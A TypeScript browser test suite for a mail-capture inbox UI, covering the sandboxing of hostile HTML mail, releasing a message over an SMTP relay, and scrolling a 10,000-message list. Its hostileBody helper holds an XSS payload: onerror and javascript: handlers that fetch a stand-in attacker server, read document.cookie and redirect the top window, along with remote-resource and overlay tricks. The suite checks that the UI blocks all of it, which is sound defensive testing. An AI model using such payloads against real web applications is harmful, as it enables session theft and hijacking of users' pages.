/** The inbox with hostile mail, with many messages, and with a transport that sends. */

import { afterAll, describe, expect, test } from "bun:test";
import type { Page } from "playwright-core";
import { BROWSER_LIMIT_MS, hasChromium } from "../support/browser.ts";
import { expectSoon, waitUntilRead } from "../support/eventually.ts";
import { type Sink, startSink } from "../support/smtp-sink.ts";
import { type InboxServer, openInbox, startInbox } from "./inbox-server.ts";
import { pageTest, beforePages } from "../support/page-test.ts";

const MESSAGES = 10_000;
/** Connections that send at the same time. */
const SENDERS = 4;
const MAX_ROWS = 60;

let server: InboxServer;
let relay: Sink;
/** The server of an attacker, and the paths that were requested from it. */
let evil: ReturnType<typeof Bun.serve>;
const stolen: string[] = [];

beforePages(async () => {
  relay = await startSink();
  evil = Bun.serve({
    port: 0,
    fetch(request) {
      stolen.push(new URL(request.url).pathname);
      return new Response("evil");
    },
  });
  server = await startInbox([
    "--capture-max-messages",
    "0",
    "--transport",
    "relay",
    "--relay-url",
    `smtp://127.0.0.1:${relay.port}?tls=none`,
  ]);
});
afterAll(async () => {
  if (!hasChromium) return;
  await Promise.all([server.stop(), relay.close(), evil.stop(true)]);
});

/** Paths of images in the hostile mail. */
const IMAGES = ["/image", "/background", "/poster"];

const rows = (page: Page) => page.locator(".inbox-row");

function hostileBody(base: string): string {
  const steal = `fetch('${base}/script');top.location='${base}/moved';document.cookie`;
  return `<!doctype html><base href="${base}/base/" target="_top">
    <meta http-equiv="refresh" content="0; url=${base}/refresh">
    <link rel="stylesheet" href="${base}/sheet">
    <style>@import "${base}/import"; body { background: url(${base}/background) }
      @font-face { font-family: f; src: url(${base}/font) }</style>
    <script>${steal}</script><script src="${base}/external"></script>
    <img src="${base}/image" alt="" onerror="${steal}"><img src="data:,x" alt="" onerror="${steal}">
    <iframe src="${base}/frame"></iframe><object data="${base}/object"></object>
    <video src="${base}/video" poster="${base}/poster"></video>
    <form action="${base}/form" target="_top"><button id="submit">Submit</button></form>
    <a id="script" href="javascript:${steal}" target="_top">Script</a>
    <div style="position:fixed;inset:-9999px;z-index:2147483647;width:99999px">Overlay</div>
    ${"<table><tr><td>".repeat(400)}deep${"</td></tr></table>".repeat(400)}
    <table width="50000"><tr>${"<td>wide</td>".repeat(2_000)}</tr></table>
    <p id="text">Hello from inside</p>`;
}

describe("the inbox", () => {
  pageTest("keeps a hostile mail in its frame", async () => {
    const base = `http://127.0.0.1:${evil.port}`;
    const subject = `<img src="${base}/subject" onerror="x">`;
    await server.mail([{ subject, html: hostileBody(base), text: "<script>1</script>" }]);
    const opened = await openInbox(server);
    const { page } = opened;
    await rows(page).first().click();
    const frame = page.frameLocator("iframe");
    await frame.locator("#text").waitFor({ state: "attached" });
    const address = page.url();
    await frame.locator("#submit").dispatchEvent("click");
    await frame.locator("#script").dispatchEvent("click");
    for (const tab of ["Text", "Source", "Headers", "Links", "Checks", "HTML"]) {
      await page.getByRole("link", { name: tab, exact: true }).click();
      await page.locator(".message-panel > *").first().waitFor();
    }
    await frame.locator("#text").waitFor({ state: "attached" });
    expect(new URL(page.url()).pathname).toBe(new URL(address).pathname);
    expect(stolen).toEqual([]);
    expect(await opened.overflowPx()).toBe(0);
    // Images are loaded when they are asked for, and nothing else.
    await Promise.all([
      page.waitForResponse((response) => response.url().endsWith("/image")),
      page.getByRole("button", { name: "Show images" }).click(),
    ]);
    await frame.locator("#text").waitFor({ state: "attached" });
    expect(stolen.filter((path) => !IMAGES.includes(path))).toEqual([]);
    expect(stolen).toContain("/image");
    await opened.close();
  });

  pageTest("releases a message to an address, with the conversation", async () => {
    await server.mail([{ subject: "To be released" }]);
    const { page, problems, close } = await openInbox(server);
    await rows(page).getByText("To be released").click();
    await page.getByRole("button", { name: "Release", exact: true }).click();
    const dialog = page.getByRole("dialog", { name: "Release to an address" });
    await dialog.getByLabel("Addresses").fill("not an address");
    await dialog.getByRole("button", { name: "Release" }).click();
    await dialog.locator("[aria-invalid=true]").waitFor();
    await dialog.getByLabel("Addresses").fill("grace@example.com");
    await dialog.getByRole("button", { name: "Release" }).click();
    await dialog.getByText("Accepted", { exact: true }).waitFor();
    await dialog.getByText("RCPT TO:<grace@example.com>").waitFor();
    expect(relay.messages.map(({ to }) => to)).toEqual([["grace@example.com"]]);
    expect(problems.filter((text) => !text.includes("422"))).toEqual([]);
    await close();
  });

  test(
    `shows ${MESSAGES} messages that arrive while the list is open in at most ${MAX_ROWS} rows`,
    async () => {
      await server.call("DELETE", "/inboxes/default/messages", { all: true });
      const { page, problems, close } = await openInbox(server);
      await page.getByRole("heading", { name: "Send a mail and it appears here" }).waitFor();
      const mails = Array.from({ length: MESSAGES / SENDERS }, (_, i) => ({ subject: `No. ${i}` }));
      await Promise.all(Array.from({ length: SENDERS }, () => server.mail(mails)));
      await page
        .getByText(`${MESSAGES.toLocaleString("en")} messages`)
        .waitFor({ timeout: BROWSER_LIMIT_MS });
      expect(await rows(page).count()).toBeWithin(5, MAX_ROWS);
      // The message that is read stays where it is while a new message arrives above it.
      await page.evaluate("document.querySelector('.inbox-scroll').scrollTo({ top: 40000 })");
      const firstVisible = () => page.evaluate(FIRST_VISIBLE);
      const scrollTop = () => page.evaluate("document.querySelector('.inbox-scroll').scrollTop");
      await waitUntilRead(async () => (await scrollTop()) === 40_000);
      // The rows at this position are drawn later.
      await waitUntilRead(async () => (await firstVisible()) !== null);
      const before = await firstVisible();
      await server.mail([{ subject: "The newest" }]);
      await page.getByRole("button", { name: "1 new" }).waitFor();
      await expectSoon(() => firstVisible(), before);
      expect(await rows(page).count()).toBeWithin(5, MAX_ROWS);
      await page.getByRole("button", { name: "1 new" }).click();
      await rows(page).getByText("The newest").waitFor();
      expect(problems).toEqual([]);
      await close();
    },
    4 * BROWSER_LIMIT_MS,
  );
});

/** The id and the place of the row at the middle of the list; null while none is drawn. */
const FIRST_VISIBLE = `(() => {
  const list = document.querySelector(".inbox-scroll").getBoundingClientRect();
  const row = [...document.querySelectorAll(".inbox-row")].find(
    (each) => each.getBoundingClientRect().bottom > list.top + list.height / 2,
  );
  return row === undefined ? null : [row.dataset.id, Math.round(row.getBoundingClientRect().top)];
})()`;
